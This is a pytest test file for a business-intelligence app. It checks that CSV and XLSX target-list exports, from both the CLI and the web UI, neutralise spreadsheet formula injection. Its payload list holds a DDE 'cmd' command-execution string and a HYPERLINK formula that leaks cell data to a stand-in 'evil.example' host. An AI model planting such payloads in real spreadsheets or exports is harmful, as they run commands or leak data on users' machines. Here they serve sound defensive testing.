"""Spreadsheet formula injection: firm names, addresses, node names and explanations that look like
formulas are exported as inert text in every text cell of the CSV and XLSX target lists (CLI and UI)."""

from __future__ import annotations

import csv
import io
import shutil

import pytest
import ui_fixtures
from openpyxl import load_workbook
from ui_fixtures import callback_headers, login_client

from dash_app import create_app, ids
from graph.export import write_targets
from graph.workspace import Workspace

ui_workspace = ui_fixtures.ui_workspace
PAYLOADS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")']
FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")
EXPORT_OUTPUT = "..node-export-download.data...node-export-status.children.."


@pytest.fixture(scope="module")
def hostile(ui_workspace, tmp_path_factory) -> Workspace:
    """The UI workspace with formula-looking text in every free-text column a target list shows."""
    root = tmp_path_factory.mktemp("hostile") / "ws"
    shutil.copytree(ui_workspace.root, root)
    workspace = Workspace(root)
    run_id = workspace.run_id_of("firms")
    firms = workspace.read_df("firms")
    pick = lambda i: PAYLOADS[i % len(PAYLOADS)]  # noqa: E731
    firms["name"] = [pick(i) + name for i, name in enumerate(firms["name"])]
    firms["address"] = [pick(i + 1) for i in range(len(firms))]
    firms["legal_representative"] = [pick(i + 2) for i in range(len(firms))]
    workspace.write("firms", firms, run_id)
    scores = workspace.read_df("firm_scores")
    scores["explanation"] = [pick(i + 3) for i in range(len(scores))]
    workspace.write("firm_scores", scores, workspace.run_id_of("firm_scores"))
    nodes = workspace.read_df("tech_nodes")
    nodes["name_zh"] = [pick(i + 4) for i in range(len(nodes))]
    workspace.write("tech_nodes", nodes, workspace.run_id_of("tech_nodes"))
    return workspace


def _formula_cells(rows: list[list]) -> list:
    return [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(FORMULA_LEAD)]


def _xlsx_cells(content: bytes) -> tuple[list[list], list]:
    book = load_workbook(io.BytesIO(content))  # not data_only: a formula would show up as one
    rows, formulas = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            rows.append([cell.value for cell in row])
            formulas += [cell.coordinate for cell in row if cell.data_type == "f"]
    return rows, formulas


def test_csv_export_neutralises_every_formula_looking_cell(hostile, tmp_path):
    path, count = write_targets(hostile, tmp_path / "targets.csv")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert count == len(rows) - 1 > 0
    assert _formula_cells(rows) == []
    texts = {cell for row in rows for cell in row}
    for payload in PAYLOADS:  # still there, readable, as text
        assert any(cell.startswith("'" + payload) for cell in texts), payload


@pytest.mark.parametrize("per_node", [False, True])
def test_xlsx_export_has_no_formula_cells(hostile, tmp_path, per_node):
    path, count = write_targets(hostile, tmp_path / "targets.xlsx", sheet_per_node=per_node)
    rows, formulas = _xlsx_cells(path.read_bytes())
    assert formulas == []
    assert _formula_cells(rows) == []
    assert sum(1 for row in rows if row and row[0] != "Chain") == count


def test_the_ui_download_is_neutralised_too(hostile, tmp_path):
    root = tmp_path / "ws"
    shutil.copytree(hostile.root, root)
    client = create_app(root).server.test_client()
    token = login_client(client, "marketer")
    buttons = [{"id": ids.NODE_EXPORT_XLSX_BUTTON, "property": "n_clicks", "value": 1},
               {"id": ids.NODE_EXPORT_BUTTON, "property": "n_clicks", "value": None}]
    body = {"output": EXPORT_OUTPUT, "outputs": [{"id": ids.NODE_EXPORT_DOWNLOAD, "property": "data"},
                                                 {"id": ids.NODE_EXPORT_STATUS, "property": "children"}],
            "inputs": [buttons[1], buttons[0]], "changedPropIds": [f"{ids.NODE_EXPORT_XLSX_BUTTON}.n_clicks"],
            "state": [{"id": ids.NODE_KEY, "property": "data", "value": {"chain_id": "ai", "node_id": "up.chips"}}]}
    response = client.post("/_dash-update-component", json=body, headers=callback_headers(token))
    assert response.status_code == 200, response.get_data(as_text=True)
    download = client.get(response.get_json()["response"]["node-export-download"]["data"])
    assert download.status_code == 200
    rows, formulas = _xlsx_cells(download.get_data())
    assert len(rows) > 1 and formulas == [] and _formula_cells(rows) == []
